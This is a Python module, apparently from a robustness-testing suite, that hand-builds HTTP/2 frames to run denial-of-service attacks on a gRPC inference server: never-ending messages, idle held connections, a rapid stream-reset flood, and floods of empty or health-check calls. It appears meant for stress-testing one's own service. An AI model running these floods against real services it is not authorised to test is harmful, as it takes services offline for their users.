"""Attacks by programs on the device's machine, over gRPC: HTTP/2 by hand (RFC 9113, RFC 7541)."""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time
from collections.abc import Callable

from experiments.robustness.attacks.case import Case, Target

DATA, HEADERS, RESET, SETTINGS, PING, AWAY, WINDOW = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = struct.pack(">I", 8)
INITIAL_WINDOW, INITIAL_SIZE = 4, 65_535
FRAME_BYTES = 16_384
MESSAGE_BYTES = 8_388_000
"""Just within what a message may have."""
CONNECTIONS, STREAMS = 24, 16
FLOODING, BURST = 8, 16
"""Connections of a flood, and calls that are begun in one go."""
PAUSE_S = 0.02
RESET_S = 0.001
"""Between a call's begin and its end: the library has handed it over by then."""
SERVICE = "/inference.GRPCInferenceService/"
METHODS = ("ServerLive", "ServerReady", "ModelMetadata", "ModelInfer")


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def _field(name: str, value: str) -> bytes:
    """A header field without indexing, neither part compressed."""
    return b"\x00" + b"".join(bytes([len(t)]) + t.encode() for t in (name, value))


def _block(method: str) -> bytes:
    """The header block of a call."""
    fields = (
        (":method", "POST"), (":scheme", "http"), (":path", SERVICE + method),
        (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers"),
    )  # fmt: skip
    return b"".join(_field(*field) for field in fields)


class Http2:
    """One connection that begins calls and sends as much of each message as it is let."""

    def __init__(self, address: tuple[str, int]) -> None:
        self._sock = socket.create_connection(address, 2.0)
        self._sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(SETTINGS, 0, 0))
        self._heard, self._last = b"", -1
        self._window, self._initial = INITIAL_SIZE, INITIAL_SIZE
        self.streams: dict[int, int] = {}
        """What each call may still send, until it has ended."""
        self._left: dict[int, int] = {}

    def close(self) -> None:
        """Hang up."""
        self._sock.close()

    def call(self, method: str) -> None:
        """Begin a call of one long message."""
        self._last += 2
        self._sock.sendall(_frame(HEADERS, END_HEADERS, self._last, _block(method)))
        self.streams[self._last], self._left[self._last] = self._initial, MESSAGE_BYTES

    def reset(self, method: str, count: int) -> None:
        """Cancel the calls begun the last time, and begin as many; hear what comes."""
        sent = [_frame(RESET, 0, stream, CANCEL) for stream in self.streams]
        self.streams.clear()
        block = _block(method)
        for _ in range(count):
            self._last += 2
            sent.append(_frame(HEADERS, END_HEADERS, self._last, block))
            self.streams[self._last] = 0
        self._sock.sendall(b"".join(sent))
        time.sleep(RESET_S)
        self._hear(0.0)

    def ask(self, method: str, count: int, sent: bytes | None) -> None:
        """Begin calls of that message (None: of none), until so many are under way; hear."""
        block, frames = _block(method), list[bytes]()
        while len(self.streams) < count:
            self._last += 2
            if sent is None:
                frames.append(_frame(HEADERS, END_HEADERS | END_STREAM, self._last, block))
            else:
                frames.append(_frame(HEADERS, END_HEADERS, self._last, block))
                message = b"\x00" + len(sent).to_bytes(4, "big") + sent
                frames.append(_frame(DATA, END_STREAM, self._last, message))
            self.streams[self._last] = 0
        self._sock.sendall(b"".join(frames))
        self._hear()

    def push(self) -> None:
        """Send what the windows allow, all but the last byte of each message; hear what comes."""
        for stream in list(self.streams):
            count = min(FRAME_BYTES, self.streams[stream], self._window, self._left[stream] - 1)
            if count <= 5:
                continue
            begun = self._left[stream] < MESSAGE_BYTES
            sent = b"" if begun else b"\x00" + MESSAGE_BYTES.to_bytes(4, "big")
            self._sock.sendall(_frame(DATA, 0, stream, sent + bytes(count - len(sent))))
            self.streams[stream] -= count
            self._left[stream] -= count
            self._window -= count
        self._hear()

    def _hear(self, within_s: float = PAUSE_S) -> None:
        self._sock.settimeout(within_s)
        with contextlib.suppress(TimeoutError, BlockingIOError):
            part = self._sock.recv(65_536)
            if not part:
                raise ConnectionError("hung up")
            self._heard += part
        self._sock.settimeout(2.0)
        while len(self._heard) >= 9:
            length = int.from_bytes(self._heard[:3], "big")
            if len(self._heard) < 9 + length:
                return
            kind, flags, stream = struct.unpack(">BBI", self._heard[3:9])
            payload, self._heard = self._heard[9 : 9 + length], self._heard[9 + length :]
            self._understand(kind, flags, stream, payload)

    def _understand(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == AWAY:
            raise ConnectionError("refused by GOAWAY")
        if kind in (SETTINGS, PING) and not flags & ACK:
            if kind == SETTINGS:
                self._settle(payload)
            self._sock.sendall(_frame(kind, ACK, 0, payload if kind == PING else b""))
        elif kind == WINDOW:
            more = int.from_bytes(payload, "big")
            if not stream:
                self._window += more
            elif stream in self.streams:
                self.streams[stream] += more
        elif kind == RESET or (kind == HEADERS and flags & END_STREAM):
            self.streams.pop(stream, None)

    def _settle(self, payload: bytes) -> None:
        for name, value in struct.iter_unpack(">HI", payload):
            if name == INITIAL_WINDOW:
                for stream in self.streams:
                    self.streams[stream] += value - self._initial
                self._initial = value


def _on_connections(
    count: int, methods: tuple[str, ...], go_on: Callable[[Http2, str], None]
) -> Callable[[Target], None]:
    """`go_on` again and again on so many connections; one that has ended is opened anew."""

    def attack(target: Target) -> None:
        until = time.monotonic() + target.seconds

        def connect(method: str) -> None:
            while time.monotonic() < until:
                with contextlib.suppress(OSError), contextlib.closing(Http2(target.grpc)) as one:
                    while time.monotonic() < until:
                        go_on(one, method)
                time.sleep(PAUSE_S)

        threads = [
            threading.Thread(target=connect, args=(methods[k % len(methods)],), daemon=True)
            for k in range(count)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(max(until - time.monotonic(), 0.0) + 1.0)

    return attack


def _unfinished(one: Http2, method: str) -> None:
    """Calls whose long message never ends, as many as the server lets begin."""
    while len(one.streams) < STREAMS:
        one.call(method)
    one.push()


def silent_callers(target: Target) -> None:
    """Connections that greet and say nothing, in all places that there are."""
    until = time.monotonic() + target.seconds
    with contextlib.ExitStack() as held:
        while time.monotonic() < until:
            for _ in range(CONNECTIONS):
                with contextlib.suppress(OSError):
                    held.enter_context(contextlib.closing(Http2(target.grpc)))
            time.sleep(0.5)


CASES = (
    Case("grpc-unfinished", "gRPC: long messages of every call that never end",
         _on_connections(CONNECTIONS, METHODS, _unfinished)),
    Case("grpc-pictures", "gRPC: pictures that never end",
         _on_connections(CONNECTIONS, ("ModelInfer",), _unfinished)),
    Case("grpc-silent", "gRPC: connections that greet and say nothing", silent_callers),
    Case("grpc-reset", "gRPC: calls that are begun and cancelled at once, without end",
         _on_connections(FLOODING, METHODS, lambda one, method: one.reset(method, BURST))),
    Case("grpc-empty", "gRPC: calls that end without a message, without end",
         _on_connections(FLOODING, METHODS, lambda one, method: one.ask(method, BURST, None))),
    Case("grpc-questions", "gRPC: questions for health and metadata, without end",
         _on_connections(FLOODING, METHODS[:3], lambda one, method: one.ask(method, BURST, b""))),
)  # fmt: skip
